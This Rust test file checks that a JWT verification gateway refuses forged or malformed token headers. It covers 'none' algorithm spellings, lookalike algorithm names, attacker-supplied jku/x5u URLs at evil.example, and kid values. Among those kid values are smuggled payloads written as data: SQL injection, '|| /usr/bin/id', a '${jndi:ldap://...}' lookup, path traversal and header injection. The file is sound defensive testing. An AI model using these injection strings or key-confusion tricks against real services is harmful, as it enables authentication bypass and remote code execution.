//! What a header may say, and what it may not.

use serde_json::{json, Value};

use super::{code, gate, signed};
use crate::mint::{encode, Key, Token};
use crate::world::{remote, Reply, Request, World, JWKS};

#[test]
fn whatever_must_be_understood_is_refused() {
    let key = Key::p256(1);
    let mut world = gate(&[&key], json!({}));
    for crit in [
        json!(["exp"]),
        json!(["alg"]),
        json!(["kid", "typ"]),
        json!(["http://example.com/UNDEFINED"]),
        json!(["b64"]),
        json!(["crit"]),
        json!([""]),
        json!([]),
        json!([1]),
        json!([null]),
        json!([["exp"]]),
        json!("exp"),
        json!(""),
        json!({}),
        json!({"exp": true}),
        json!(null),
        json!(false),
        json!(0),
    ] {
        for more in [json!({}), json!({"exp": 1}), json!({"b64": true})] {
            let mut token = Token::new(&key).header("crit", crit.clone());
            for (name, value) in more.as_object().unwrap() {
                token = token.header(name, value.clone());
            }
            assert_eq!(code(&mut world, &token.mint()), "header_malformed", "crit: {crit}, {more}");
        }
    }
    // What need not be understood is not looked at (RFC 7515 section 4), and `Crit` is another name.
    for (name, value) in [("exp", json!(1)), ("http://example.com/UNDEFINED", json!(true)), ("Crit", json!(["x"]))] {
        assert_eq!(code(&mut world, &Token::new(&key).header(name, value).mint()), "allowed", "{name}");
    }
}

#[test]
fn a_payload_that_is_not_encoded_is_refused() {
    let key = Key::p256(1);
    let mut world = gate(&[&key], json!({}));
    for (b64, crit) in [
        (json!(false), json!(["b64"])),
        (json!(false), Value::Null),
        (json!(true), Value::Null),
        (json!("false"), Value::Null),
        (json!(null), Value::Null),
    ] {
        let mut header = json!({"alg": "ES256", "b64": b64});
        if !crit.is_null() {
            header["crit"] = crit;
        }
        let payload = Token::new(&key).payload();
        assert_eq!(code(&mut world, &signed(header.to_string(), &payload)), "header_malformed", "{header}");
        // As RFC 7797 section 3 signs and sends it.
        let part = encode(header.to_string().as_bytes());
        let signature = encode(&key.sign("ES256", format!("{part}.{payload}").as_bytes()));
        for token in [format!("{part}..{signature}"), format!("{part}.{}.{signature}", encode(payload.as_bytes()))] {
            let code = code(&mut world, &token);
            assert!(["token_malformed", "header_malformed"].contains(&code), "{header}: {code}");
        }
        let raw = "no-comma-and-no-dot";
        let signature = encode(&key.sign("ES256", format!("{part}.{raw}").as_bytes()));
        assert_ne!(code(&mut world, &format!("{part}.{raw}.{signature}")), "allowed", "{header}");
    }
}

#[test]
fn an_algorithm_has_one_name() {
    for (key, names) in [
        (
            Key::rsa(),
            &["rs256", "Rs256", "rS256", "RS256 ", " RS256", "RS256\0", "RS-256", "RSA256", "RSA", "SHA256withRSA"][..],
        ),
        (
            Key::p256(1),
            &["es256", "Es256", "ES256 ", "ES256K", "ES", "ECDSA", "ＥＳ256", "ES２５６", "ЕS256", "ESP256"],
        ),
        (Key::ed25519(1), &["eddsa", "EDDSA", "Eddsa", "ed25519", "ED25519", "Ed25519ph", "Ed448", "EdDSA\n"]),
        (
            Key::hmac(&[7; 64]),
            &["hs256", "Hs256", "HS256 ", "HMAC", "HS1", "HS256/64", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"],
        ),
    ] {
        let all = json!({"algorithms": crate::mint::ALGORITHMS});
        let mut world = gate(&[&key], all);
        let token = |alg: Value| Token::new(&key).header("alg", alg).mint();
        assert_eq!(code(&mut world, &token(key.alg().into())), "allowed");
        for name in names {
            assert_eq!(code(&mut world, &token((*name).into())), "algorithm_not_allowed", "{name:?}");
        }
        for alg in [json!(null), json!(1), json!(true), json!([key.alg()]), json!({"alg": key.alg()})] {
            assert_eq!(code(&mut world, &token(alg.clone())), "header_malformed", "{alg}");
        }
        assert_eq!(code(&mut world, &Token::new(&key).without_header("alg").mint()), "header_malformed");
        assert_eq!(
            code(&mut world, &Token::new(&key).without_header("alg").header("Alg", key.alg()).mint()),
            "header_malformed"
        );
    }
    // An escape is another way to write the same name, for every reader of JSON.
    let mut world = gate(&[&Key::p256(1)], json!({}));
    let token = signed(r#"{"\u0061lg":"\u0045S256"}"#, Token::new(&Key::p256(1)).payload());
    assert_eq!(code(&mut world, &token), "allowed");
}

#[test]
fn none_is_no_algorithm_however_it_is_spelt() {
    let key = Key::p256(1);
    let mut world = gate(&[&key], json!({}));
    let mut names: Vec<String> = (0..16u32)
        .map(|upper| {
            "none".char_indices().map(|(at, c)| if upper >> at & 1 == 1 { c.to_ascii_uppercase() } else { c }).collect()
        })
        .collect();
    names.extend(
        [
            "",
            " ",
            "none ",
            " none",
            "none\\u0000",
            "\\u006eone",
            "n\\u006fne",
            "nоne",
            "non\\u0435",
            "ｎone",
            "null",
            "no",
            "nonee",
            "false",
            "plain",
        ]
        .map(str::to_owned),
    );
    for name in names {
        let header = format!(r#"{{"alg":"{name}"}}"#);
        let payload = Token::new(&key).payload();
        // Signed by the right key: nothing but the name of the algorithm is wrong.
        let token = signed(&header, &payload);
        assert_eq!(code(&mut world, &token), "algorithm_not_allowed", "{name:?}");
        let (input, _) = token.rsplit_once('.').unwrap();
        assert_eq!(code(&mut world, &format!("{input}.")), "token_malformed", "{name:?}, no signature");
        assert_eq!(code(&mut world, input), "token_malformed", "{name:?}, no signature and no dot");
        for signature in ["AA", "bm9uZQ", "AAAA"] {
            assert_eq!(
                code(&mut world, &format!("{input}.{signature}")),
                "algorithm_not_allowed",
                "{name:?} {signature}"
            );
        }
    }
}

#[test]
fn a_key_that_a_token_brings_is_never_used_and_never_fetched() {
    let (ours, theirs) = (Key::p256(1).named("ours"), Key::p256(2));
    let x5c = include_str!("../../support/keys/rsa-2048.certificate.pem").lines().filter(|line| !line.starts_with('-'));
    let x5c: String = x5c.collect();
    for (name, value, signer, alg) in [
        ("jwk", theirs.jwk(), theirs.clone(), "ES256"),
        ("jwk", Key::p256(2).named("ours").jwk(), theirs.clone(), "ES256"),
        ("jwk", Key::rsa().jwk(), Key::rsa(), "RS256"),
        ("jwk", Key::ed25519(1).jwk(), Key::ed25519(1), "EdDSA"),
        ("jwk", Key::hmac(&[7; 64]).jwk(), Key::hmac(&[7; 64]), "HS256"),
        ("jku", json!("https://evil.example/jwks"), theirs.clone(), "ES256"),
        ("jku", json!("http://issuer.example@evil.example/jwks"), theirs.clone(), "ES256"),
        ("x5u", json!("https://evil.example/certificate"), theirs.clone(), "ES256"),
        ("x5u", json!("file:///dev/null"), theirs.clone(), "ES256"),
        ("x5c", json!([x5c]), Key::rsa(), "RS256"),
        ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA"), theirs.clone(), "ES256"),
        ("x5t#S256", json!("AAAA"), theirs.clone(), "ES256"),
        ("keys", json!([theirs.jwk()]), theirs.clone(), "ES256"),
        ("iss", json!("https://evil.example"), theirs.clone(), "ES256"),
    ] {
        let mut world = World::new(&json!({"providers": {"main": remote(json!({}))}}), 1);
        world.issuer(JWKS, Reply::keys(&[&ours, &Key::other_rsa().named("ours")]));
        for kid in [Some("ours"), Some("theirs"), None] {
            let token = Token::new(&signer).alg(alg).header(name, value.clone());
            let token = kid.map_or_else(|| token.clone(), |kid| token.clone().kid(kid));
            let code = world.ask_patiently(0, &Request::get("/").bearer(&token.mint())).code();
            let expected = match (alg, kid) {
                ("HS256", _) => &["algorithm_not_allowed"][..],
                _ => &["signature_invalid", "key_unknown"],
            };
            assert!(expected.contains(&code), "{name}: {value}, kid {kid:?}: {code}");
        }
        let genuine = Token::new(&ours).header(name, value.clone()).mint();
        assert_eq!(world.ask_patiently(0, &Request::get("/").bearer(&genuine)).code(), "allowed", "{name}: {value}");
        world.seconds_pass(120);
        assert!(world.fetches.iter().all(|fetch| fetch.uri == JWKS), "{name}: {value}: {:?}", world.fetches);
    }
}

#[test]
fn a_kid_is_compared_and_used_for_nothing_else() {
    let mut world = World::new(&json!({"providers": {"main": remote(json!({}))}}), 1);
    world.issuer(JWKS, Reply::keys(&[&Key::p256(1).named("k")]));
    let long = "k".repeat(10_000);
    for kid in [
        "../../../../dev/null",
        "/dev/null",
        "' OR '1'='1",
        "k' UNION SELECT 'secret'; --",
        "|| /usr/bin/id",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/jwks",
        "__proto__",
        "K",
        " k",
        "k ",
        "k\0",
        "\0",
        "k\r\nx-admin: true",
        "ｋ",
        "k\u{301}",
        "",
        long.as_str(),
    ] {
        let token = Token::new(&Key::p256(1)).kid(kid).mint();
        assert_eq!(world.ask_patiently(0, &Request::get("/").bearer(&token)).code(), "key_unknown", "{kid:?}");
    }
    for kid in [json!(1), json!(null), json!(true), json!(["k"]), json!({"k": "k"}), json!(1.5)] {
        let token = Token::new(&Key::p256(1)).header("kid", kid.clone()).mint();
        assert_eq!(world.ask(0, &Request::get("/").bearer(&token)).code(), "header_malformed", "{kid}");
    }
    let escaped = signed(r#"{"alg":"ES256","kid":"\u006b"}"#, Token::new(&Key::p256(1)).payload());
    assert_eq!(world.ask(0, &Request::get("/").bearer(&escaped)).code(), "allowed");
    assert!(world.fetches.iter().all(|fetch| fetch.uri == JWKS), "{:?}", world.fetches);
    let logs = format!("{:?}", world.logs);
    assert!(!["evil", "dev/null", "UNION", "jndi", "x-admin"].iter().any(|word| logs.contains(word)), "{logs}");
}

#[test]
fn a_type_is_text_and_the_other_checks_decide() {
    let key = Key::p256(1);
    let mut world = gate(&[&key], json!({}));
    for typ in [json!(null), json!(1), json!(true), json!([]), json!(["JWT"]), json!({"typ": "JWT"})] {
        assert_eq!(code(&mut world, &Token::new(&key).header("typ", typ.clone()).mint()), "header_malformed", "{typ}");
    }
    for typ in ["JWT", "jwt", "at+jwt", "application/at+jwt", "AT+JWT", "", "anything"] {
        assert_eq!(code(&mut world, &Token::new(&key).header("typ", typ).mint()), "allowed", "{typ:?}");
    }
    assert_eq!(code(&mut world, &Token::new(&key).without_header("typ").mint()), "allowed");
    // A token of another kind, where the provider says nothing of kinds: for another audience, by another issuer, or by a key that it brings.
    let dpop = Token::new(&Key::p256(2)).header("typ", "dpop+jwt").header("jwk", Key::p256(2).jwk());
    let (id, logout) = (Token::new(&key).header("typ", "JWT"), Token::new(&key).header("typ", "logout+jwt"));
    for (token, expected) in [
        (dpop.without("iss").without("aud"), "signature_invalid"),
        (id.claim("aud", "the-client").claim("nonce", "n"), "audience_not_allowed"),
        (logout.claim("aud", "the-client").without("exp"), "audience_not_allowed"),
    ] {
        assert_eq!(code(&mut world, &token.mint()), expected);
    }
}

#[test]
fn a_token_of_another_type_is_refused_where_the_provider_names_types() {
    let key = Key::p256(1);
    let of_type = |typ: &str| Token::new(&key).header("typ", typ).mint();
    let mut world = gate(&[&key], json!({"typ": ["at+jwt", "application/vnd.x+jwt", "a/b"]}));
    for typ in ["at+jwt", "AT+JWT", "application/at+jwt", "Application/AT+jwt", "vnd.x+jwt", "a/b", "A/B"] {
        assert_eq!(code(&mut world, &of_type(typ)), "allowed", "{typ}");
    }
    for typ in ["JWT", "", "at+jwt ", "at+jwtx", "xat+jwt", "x/at+jwt", "application/a/b", "b", "logout+jwt"] {
        assert_eq!(code(&mut world, &of_type(typ)), "type_not_allowed", "{typ:?}");
    }
    assert_eq!(code(&mut world, &Token::new(&key).without_header("typ").mint()), "type_not_allowed");
}

#[test]
fn the_profile_of_rfc_9068_takes_nothing_but_whole_access_tokens() {
    let key = Key::p256(1);
    let access = || Token::new(&key).header("typ", "at+jwt").claim("client_id", "app").claim("jti", "1");
    let mut world = gate(&[&key], json!({"profile": "rfc9068"}));
    assert_eq!(code(&mut world, &access().mint()), "allowed");
    assert_eq!(code(&mut world, &access().header("typ", "application/at+jwt").mint()), "allowed");
    assert_eq!(code(&mut world, &access().header("typ", "JWT").mint()), "type_not_allowed");
    assert_eq!(code(&mut world, &access().without_header("typ").mint()), "type_not_allowed");
    for claim in ["exp", "sub", "client_id", "iat", "jti"] {
        assert_eq!(code(&mut world, &access().without(claim).mint()), "claim_missing", "{claim}");
    }
    for (claim, expected) in [("iss", "issuer_not_allowed"), ("aud", "audience_not_allowed")] {
        assert_eq!(code(&mut world, &access().without(claim).mint()), expected, "{claim}");
    }
    assert_eq!(code(&mut world, &access().claim("client_id", 7).mint()), "claim_missing");
    // Also where the provider takes any issuer and any audience, they have to be there.
    let any = json!({"profile": "rfc9068", "issuer": null, "audiences": null, "allow_any_audience": true});
    let mut world = gate(&[&key], any);
    assert_eq!(code(&mut world, &access().mint()), "allowed");
    for claim in ["iss", "aud"] {
        assert_eq!(code(&mut world, &access().without(claim).mint()), "claim_missing", "{claim}");
    }
}
